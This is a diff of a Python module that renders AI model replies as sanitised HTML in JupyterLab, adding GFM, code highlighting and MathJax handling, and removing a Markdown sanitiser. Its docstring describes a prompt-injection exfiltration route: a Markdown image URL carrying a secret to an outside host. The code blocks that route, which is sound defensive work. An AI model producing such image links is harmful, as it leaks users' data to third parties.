@@ -5,8 +5,15 @@ and images disabled (markdown-it also refuses `javascript:`-style links), and ev
 string that reaches HTML goes through `html.escape`. Images stay off because an image loads
 by itself: `![](https://host/x.png?q=SECRET)` in a reply (a prompt injection can ask for
 one) would send data to that host the moment it is shown; it renders as `!` plus a link.
-Class names carry the `cm-` prefix and styles are inline, so nothing leaks into the rest of
-the notebook.
+
+The Markdown is GitHub's flavour (tables, strikethrough, task lists, alerts, autolinks:
+mdit-py-plugins' `gfm_plugin`, footnotes off), fenced code is highlighted with Pygments
+into a few `cm-` token classes coloured by JupyterLab's own editor variables (`reply.css`,
+so light and dark themes both read), and `$…$` / `$$…$$` math is kept verbatim for the
+frontend's MathJax: reply text carries `mathjax_ignore` (so "$5 and $10" stays text), each
+math span `mathjax_process` (and the MathJax 2 names of both, for nbconvert). Class names
+carry the `cm-` prefix and other styles are inline, coloured by JupyterLab's CSS variables
+with light fallbacks, so nothing leaks into the rest of the notebook.
 """
 
 from __future__ import annotations
@@ -18,16 +25,32 @@ import json
 import math
 import re
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 from ..protocol import ExchangeInfo
 from ..turn import CallRecord, message_blocks
 
-_CARD = "border:1px solid #bbb;border-radius:4px;padding:4px 8px;margin:4px 0"
-_ERROR_CARD = "border:1px solid #d33;border-radius:4px;padding:4px 8px;margin:4px 0;color:#a00"
+_MUTED = "var(--jp-content-font-color2,#666)"
+_ERROR = "var(--jp-error-color1,#c00)"
+_BORDER = "var(--jp-border-color1,#bbb)"
+_CARD = f"border:1px solid {_BORDER};border-radius:4px;padding:4px 8px;margin:4px 0"
+_ERROR_CARD = (
+    f"border:1px solid {_ERROR};border-radius:4px;padding:4px 8px;margin:4px 0;color:{_ERROR}"
+)
 _PRE = "white-space:pre-wrap;margin:2px 0;font-size:90%"
+_THINKING = (
+    f"{_PRE};color:{_MUTED};border-left:3px solid var(--jp-border-color2,#ddd);"
+    "padding-left:8px;max-height:16em;overflow-y:auto"
+)
+"""The thinking box: bounded, so it keeps its size when the answer starts and after."""
 _SUMMARY_LIMIT = 4000
 """Characters of JSON a generic card shows (search results can be huge)."""
+NO_MATH = "mathjax_ignore tex2jax_ignore"
+"""MathJax 3 and 2 classes: typeset nothing inside (reply text, thinking, cards)."""
+MATH = "cm-math mathjax_process tex2jax_process"
+"""...except in these (the math spans of reply text)."""
+TEXT_CLASS = f"cm-text {NO_MATH}"
 
 FLAGS = {
     "max_tokens": "reply cut off at max_tokens — raise --max-tokens",
@@ -36,12 +59,45 @@ FLAGS = {
 }
 
 
+def _configure(md: Any) -> Any:
+    from mdit_py_plugins.dollarmath import dollarmath_plugin
+    from mdit_py_plugins.gfm import gfm_plugin
+
+    gfm_plugin(md)
+    # Footnotes set global ids (`fn1`) and reach across blocks: off, they read as text.
+    md.disable(["footnote_def", "footnote_ref", "footnote_tail"])
+    # Pandoc's rule: no space inside the dollars, no digit after the closing one, so
+    # "costs $5 and $10" and "$5-$10" stay text while "$0.1\,N$" is math.
+    dollarmath_plugin(
+        md,
+        allow_labels=False,
+        allow_space=False,
+        allow_digits=False,
+        allow_blank_lines=False,
+        double_inline=True,
+    )
+    md.add_render_rule("math_inline", _math_rule("span", r"\(", r"\)"))
+    md.add_render_rule("math_inline_double", _math_rule("span", r"\[", r"\]"))
+    md.add_render_rule("math_block", _math_rule("div", r"\[", r"\]", "\n"))
+    return md.disable("image")
+
+
+def _math_rule(tag: str, opening: str, closing: str, end: str = "") -> Any:
+    """A render rule: TeX kept verbatim (escaped) between MathJax's own delimiters."""
+
+    def render(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
+        tex = html.escape(tokens[idx].content.strip(), quote=False)
+        return f'<{tag} class="{MATH}">{opening}{tex}{closing}</{tag}>{end}'
+
+    return render
+
+
 @functools.cache
 def markdown_parser() -> Any:
-    """The one shared CommonMark parser (raw HTML and images off)."""
+    """The one shared parser: GFM, math, highlighted code; raw HTML and images off."""
     from markdown_it import MarkdownIt
 
-    return MarkdownIt("commonmark", {"html": False}).disable("image")
+    return _configure(MarkdownIt("commonmark", {"html": False, "highlight": highlight_code}))
 
 
 @functools.cache
@@ -49,11 +105,19 @@ def block_parser() -> Any:
     """The same parser without the inline pass: top-level block structure at a fifth the cost."""
     from markdown_it import MarkdownIt
 
-    return MarkdownIt("commonmark", {"html": False}).disable(["inline", "image"])
+    return _configure(MarkdownIt("commonmark", {"html": False})).disable("inline")
+
+
+def warm_up() -> None:
+    """Build the parsers and load the most common lexer (~0.4 s of imports, once per
+    process), so the first reply does not stall on them mid-stream."""
+    markdown_parser()
+    block_parser()
+    _lexer("python")
 
 
 def markdown_to_html(text: str) -> str:
-    """CommonMark to HTML: raw HTML shown as text, no images, unsafe link schemes refused."""
+    """GFM to HTML: raw HTML shown as text, no images, unsafe link schemes refused."""
     return markdown_parser().render(text)
 
 
@@ -63,8 +127,109 @@ def text_html(text: str) -> str:
 
 
 def _text_div(inner: str) -> str:
-    return f'<div class="cm-text">{inner}</div>'
+    return f'<div class="{TEXT_CLASS}">{inner}</div>'
 
+
+# -- code highlighting ----------------------------------------------------------------------
+
+_TOKEN_CLASSES: dict[str, str | None] = {
+    "Keyword": "k",
+    "Operator.Word": "k",
+    "Name.Builtin": "b",
+    "Name.Builtin.Pseudo": "v",
+    "Name.Function": "f",
+    "Name.Class": "f",
+    "Name.Decorator": "m",
+    "Comment.Preproc": "m",
+    "Name.Tag": "t",
+    "Name.Attribute": "a",
+    "Literal.String": "s",
+    "Literal.Number": "n",
+    "Comment": "c",
+    "Operator": None,
+    "Generic.Heading": "h",
+    "Generic.Subheading": "h",
+    "Generic.Deleted": "d",
+    "Generic.Inserted": "i",
+    "Error": "e",
+}
+"""Pygments token types (and their subtypes) to the `cm-` classes `reply.css` colours.
+Operators stay plain: Pygments counts every `.` and `:` as one, which would double the
+markup of code for little (JupyterLab's editor leaves punctuation plain too)."""
+
+
+@functools.cache
+def _token_class(ttype: Any) -> str | None:
+    while ttype is not None:
+        name = str(ttype).removeprefix("Token.")
+        if name in _TOKEN_CLASSES:
+            return _TOKEN_CLASSES[name]
+        ttype = ttype.parent
+    return None
+
+
+@functools.cache
+def _lexer(lang: str) -> Any:
+    from pygments.lexers import get_lexer_by_name
+    from pygments.util import ClassNotFound
+
+    try:
+        return get_lexer_by_name(lang, stripnl=False, ensurenl=False)
+    except ClassNotFound:
+        return None
+
+
+def highlight_code(code: str, lang: str, attrs: str = "") -> str:
+    """A fenced code block as `<pre class="cm-code">`, highlighted when Pygments knows `lang`."""
+    lexer = _lexer(lang.lower()) if re.fullmatch(r"[\w+#.-]{1,40}", lang or "") else None
+    if lexer is None:
+        body = html.escape(code, quote=False)
+    else:
+        spans, run, kind = [], [], None
+        for ttype, value in lexer.get_tokens(code):
+            cls = _token_class(ttype) if value.strip() else kind
+            if cls != kind and run:
+                spans.append(_span(kind, "".join(run)))
+                run = []
+            kind = cls
+            run.append(value)
+        if run:
+            spans.append(_span(kind, "".join(run)))
+        body = "".join(spans)
+    label = f' class="language-{html.escape(lang)}"' if lang else ""
+    return f'<pre class="cm-code"><code{label}>{body}</code></pre>'
+
+
+def _span(cls: str | None, text: str) -> str:
+    text = html.escape(text, quote=False)
+    return f"<span class=cm-{cls}>{text}</span>" if cls else text  # one per token: no quotes
+
+
+@functools.cache
+def reply_css() -> str:
+    """The stylesheet of what inline styles cannot do (code token colours), from reply.css:
+    one rule a line, each for the last `cm-` class of its selector."""
+    return Path(__file__).with_name("reply.css").read_text(encoding="utf-8")
+
+
+_CLASS = re.compile(r"\bcm-[\w-]+")
+
+
+def style_tag(fragment: str) -> str:
+    """The rules of reply.css that `fragment` uses, as one `<style>` ("" when none): a
+    saved turn carries only the colours its code needs."""
+    used = set(_CLASS.findall(fragment))
+    rules = [rule for rule in reply_css().splitlines() if _subject(rule) in used]
+    return f"<style>{''.join(rules)}</style>" if rules else ""
+
+
+def _subject(rule: str) -> str | None:
+    """The last `cm-` class of a CSS rule's selector: the rule matters where it is used."""
+    classes = _CLASS.findall(rule.split("{", 1)[0])
+    return classes[-1] if classes else None
+
+
+# -- Markdown as it streams -------------------------------------------------------------------
 
 _NEWLINE = re.compile(r"\r\n?|\n")
 """Line breaks as markdown-it counts them (its `normalize` rule), so `Token.map` lines match."""
@@ -80,40 +245,17 @@ def _top_level(tokens: list[Any]) -> list[tuple[int, int]]:
     return [(i, t.map[0]) for i, t in enumerate(tokens) if t.level == 0 and t.map]
 
 
-def safe_markdown(text: str, tokens: list[Any] | None = None) -> str:
-    """Model Markdown made safe for frontends that render text/markdown unsanitized.
-
-    Outside top-level code blocks every `<` becomes `&lt;`, so no tag or autolink can form,
-    and `![` becomes `\\![`, so no image can form (it reads as `!` and a link); when a
-    segment mentions a script/data scheme or an entity, `[` is escaped too so no
-    link can form. Top-level code blocks are re-fenced with a fence their content cannot
-    close, and keep their text verbatim. `tokens`: `block_parser().parse(text)` if at hand.
-    """
-    if tokens is None:
-        tokens = block_parser().parse(text)
-    starts = [*_line_starts(text), len(text)]
-    out: list[str] = []
-    pos = 0
-    for token in tokens:
-        if token.level == 0 and token.type in ("fence", "code_block") and token.map:
-            start, end = (starts[min(line, len(starts) - 1)] for line in token.map)
-            out.append(_neutralize(text[pos:start]))
-            out.append(_fence(token.content, token.info if token.type == "fence" else ""))
-            pos = end
-    out.append(_neutralize(text[pos:]))
-    return "".join(out)
-
-
 class MarkdownStream:
-    """Model Markdown rendered as it grows, each top-level block parsed about once.
+    """Model Markdown rendered as it grows, each top-level block rendered once.
 
-    `update` parses only what follows the last finished block. A block counts as finished
-    once a later block starts on a complete line (a partial line such as `#` or `` ``` ``
-    may still turn out to continue it); finished blocks are rendered once and kept as
-    pieces, the rest is rendered again on each update. Separately parsed top-level blocks
-    render exactly as the whole text does unless link reference definitions (which reach
-    across blocks) are involved, so `final` checks that against a cheap block-level parse
-    of the whole text and says when the whole must be rendered instead.
+    `update` finds the block structure of what follows the last finished block with the
+    cheap block-level parse; a block counts as finished once a later block starts on a
+    complete line (a partial line such as `#` or `` ``` `` may still turn out to continue
+    it). Finished blocks are rendered once and kept as pieces (the live view sends each to
+    the browser once); the unfinished rest is rendered only when asked for. Separately
+    rendered top-level blocks render exactly as the whole text does unless link reference
+    definitions (which reach across blocks) are involved, so `final` checks that against a
+    block-level parse of the whole text and renders the whole when it must.
     """
 
     def __init__(self) -> None:
@@ -122,67 +264,53 @@ class MarkdownStream:
         self._starts: list[int] = []
         self._pieces: list[str] = []
         """HTML of the finished pieces; piece i covers source[_starts[i]:next start or done]."""
-        self._rest_html = ""
-        self._rendered = 0
-        """Length of the source when `update` last ran."""
+        self._source = ""
         self._references = False
 
     def update(self, source: str) -> None:
-        """Render `source` (the text so far, a continuation of what was last passed)."""
-        md = markdown_parser()
+        """Take `source` (the text so far, a continuation of what was last passed)."""
+        self._source = source
         rest = source[self.done :]
         env: dict[str, Any] = {}
-        tokens = md.parse(rest, env)
+        tokens = block_parser().parse(rest, env)
         self._references = self._references or bool(env.get("references"))
         lines = _line_starts(rest)
-        blocks = [(i, line) for i, line in _top_level(tokens)[1:] if line + 1 < len(lines)]
+        blocks = [line for _, line in _top_level(tokens)[1:] if line + 1 < len(lines)]
         if blocks:
-            index, line = blocks[-1]
+            finished = rest[: lines[blocks[-1]]]
             self._starts.append(self.done)
-            self._pieces.append(md.renderer.render(tokens[:index], md.options, env))
-            self.done += lines[line]
-            tokens = tokens[index:]
-        self._rest_html = md.renderer.render(tokens, md.options, env)
-        self._rendered = len(source)
+            self._pieces.append(markdown_to_html(finished))
+            self.done += len(finished)
+
+    @property
+    def rest_html(self) -> str:
+        """HTML of the unfinished part as of the last update."""
+        return markdown_to_html(self._source[self.done :])
+
+    def pieces(self, first: int = 0) -> list[tuple[int, int, str]]:
+        """(start, end, HTML) of the finished pieces from the `first`-th on."""
+        ends = [*self._starts[1:], self.done] if self._starts else []
+        return list(zip(self._starts, ends, self._pieces, strict=True))[first:]
 
     def html(self, start: int, end: int | None = None) -> str:
         """The text block's HTML from piece boundary `start` to `end` (None: to the end)."""
         first = bisect.bisect_left(self._starts, start)
         if end is None:
-            return _text_div("".join(self._pieces[first:]) + self._rest_html)
+            return _text_div("".join(self._pieces[first:]) + self.rest_html)
         return _text_div("".join(self._pieces[first : bisect.bisect_left(self._starts, end)]))
 
-    def final(self, source: str) -> tuple[str, str]:
-        """(`text_html(source)`, `safe_markdown(source)`) of the finished text, reusing pieces."""
+    def final(self, source: str) -> str:
+        """`text_html(source)` of the finished text, reusing the pieces when that is exact."""
+        if self._source != source:
+            self.update(source)
         env: dict[str, Any] = {}
         tokens = block_parser().parse(source, env)
-        markdown = safe_markdown(source, tokens)
-        if self._rendered != len(source):
-            self.update(source)
         lines = _line_starts(source)
         blocks = {lines[line] for _, line in _top_level(tokens)}
         reusable = not (self._references or env.get("references")) and all(
             start in blocks for start in (*self._starts[1:], self.done) if start
         )
-        return (self.html(0) if reusable else text_html(source)), markdown
-
-
-_RISKY = re.compile(r"(?i)script\W*:|data\W*:|&#|&\w+;")
-
-
-def _neutralize(segment: str) -> str:
-    segment = segment.replace("<", "&lt;").replace("![", "\\![")
-    if _RISKY.search(segment):
-        segment = segment.replace("[", "\\[")
-    return segment
-
-
-def _fence(code: str, info: str) -> str:
-    longest = max((len(run) for run in re.findall(r"`+", code)), default=0)
-    ticks = "`" * max(3, longest + 1)
-    lang = re.sub(r"[^\w+.-]", "", info.split()[0]) if info.strip() else ""
-    body = code if code.endswith("\n") or not code else code + "\n"
-    return f"{ticks}{lang}\n{body}{ticks}\n"
+        return self.html(0) if reusable else text_html(source)
 
 
 def reply_blocks(replies: list[dict[str, Any]]) -> Iterator[tuple[dict[str, Any], str | None]]:
@@ -221,21 +349,40 @@ def _strip_encrypted(value: Any) -> Any:
     return value
 
 
-def card_html(title: str, body: str, *, error: bool = False, kind: str = "block") -> str:
-    """A bordered card: escaped title and preformatted escaped body."""
+def card_html(
+    title: str, body: str, *, error: bool = False, kind: str = "block", slot: bool = False
+) -> str:
+    """A bordered card: escaped title and preformatted escaped body (`slot`: the live view
+    appends streamed text to the body)."""
     style = _ERROR_CARD if error else _CARD
+    pre_class = ' class="cm-slot"' if slot else ""
     return (
-        f'<div class="cm-card cm-{html.escape(kind)}" style="{style}">'
+        f'<div class="cm-card cm-{html.escape(kind)} {NO_MATH}" style="{style}">'
         f"<b>{html.escape(title)}</b>"
-        f'<pre style="{_PRE}">{html.escape(body)}</pre></div>'
+        f'<pre{pre_class} style="{_PRE}">{html.escape(body)}</pre></div>'
     )
 
 
-def thinking_body_html(text: str) -> str:
-    """Thinking text as escaped, wrapped plain text."""
+def thinking_html(text: str, note: str | None = None) -> str:
+    """A thinking block, open, its text in a bounded box (the live view streams into it);
+    `note` replaces the text when there is none (display: omitted)."""
+    title = "Thinking (hidden)" if note else "Thinking"
+    body = f"<i>{html.escape(note)}</i>" if note else html.escape(text)
+    slot = "" if note else " cm-slot"
     return (
-        f'<div class="cm-thinking-text mathjax_ignore" style="{_PRE};color:#555;'
-        f'border-left:3px solid #ddd;padding-left:8px">{html.escape(text)}</div>'
+        f'<details class="cm-thinking" open style="margin:4px 0;color:{_MUTED}">'
+        f"<summary>{title}</summary>"
+        f'<div class="cm-thinking-text{slot} {NO_MATH}" style="{_THINKING}">{body}</div>'
+        "</details>"
+    )
+
+
+def note_html(text: str, *, error: bool = False) -> str:
+    """A line said about the exchange (re-run notes, errors), not by the model."""
+    color = _ERROR if error else _MUTED
+    return (
+        f'<div class="cm-note {NO_MATH}" style="color:{color};margin:4px 0">'
+        f"{html.escape(text)}</div>"
     )
 
 
@@ -249,9 +396,9 @@ def thinking_hidden_note(block: dict[str, Any]) -> str | None:
 
 
 def tool_input_html(name: str, input_value: Any) -> str:
-    """A tool call card; `input_value` is the (possibly partial) input."""
+    """A tool call card; `input_value` is the input (a string: JSON streamed so far)."""
     body = input_value if isinstance(input_value, str) else json_text(input_value)
-    return card_html(f"tool call: {name}", body, kind="tool-use")
+    return card_html(f"tool call: {name}", body, kind="tool-use", slot=True)
 
 
 def tool_result_text(content: Any) -> str:
@@ -286,15 +433,9 @@ def block_html(block: dict[str, Any], tool_name: str | None = None) -> str:
     if kind == "text":
         return text_html(str(block.get("text", "")))
     if kind == "thinking":
-        note = thinking_hidden_note(block)
-        body = f"<i>{html.escape(note)}</i>" if note else thinking_body_html(block["thinking"])
-        title = "Thinking (hidden)" if note else "Thinking"
-        return (
-            '<details class="cm-thinking" style="margin:4px 0;color:#555">'
-            f"<summary>{title}</summary>{body}</details>"
-        )
+        return thinking_html(str(block.get("thinking") or ""), thinking_hidden_note(block))
     if kind == "redacted_thinking":
-        return '<div class="cm-note" style="color:#777"><i>thinking redacted by the API</i></div>'
+        return note_html("(thinking redacted by the API)")
     if kind == "tool_use":
         return tool_input_html(str(block.get("name", "?")), block.get("input"))
     if kind == "tool_result":
@@ -464,8 +605,8 @@ def footer_text(
 
 def badge_html(label: str = OFFLINE_BADGE) -> str:
     return (
-        '<span class="cm-badge" style="background:#e8e0ff;color:#408;border-radius:3px;'
-        f'padding:0 4px;margin-right:6px">{html.escape(label)}</span>'
+        '<span class="cm-badge" style="border:1px solid;border-radius:3px;padding:0 4px;'
+        f'margin-right:6px">{html.escape(label)}</span>'
     )
 
 
@@ -480,12 +621,12 @@ def footer_html(
     # `$` as an entity and `mathjax_ignore`: JupyterLab would typeset "$0.01 … $0.02" as math.
     line = html.escape(" · ".join(footer_parts(calls, running_cost, budget))).replace("$", "&#36;")
     flags = "".join(
-        f'<div class="cm-flag" style="color:#c00;font-weight:bold">⚠ {html.escape(flag)}</div>'
+        f'<div class="cm-flag" style="color:{_ERROR};font-weight:bold">⚠ {html.escape(flag)}</div>'
         for flag in stop_flags(calls)
     )
     label = badge(calls, offline)
     badge_ = badge_html(label) if label else ""
     return (
-        f'<div class="cm-footer mathjax_ignore" style="font-size:85%;color:#666;margin-top:4px">'
+        f'<div class="cm-footer {NO_MATH}" style="font-size:85%;color:{_MUTED};margin-top:4px">'
         f"{badge_}{line}{flags}</div>"
     )
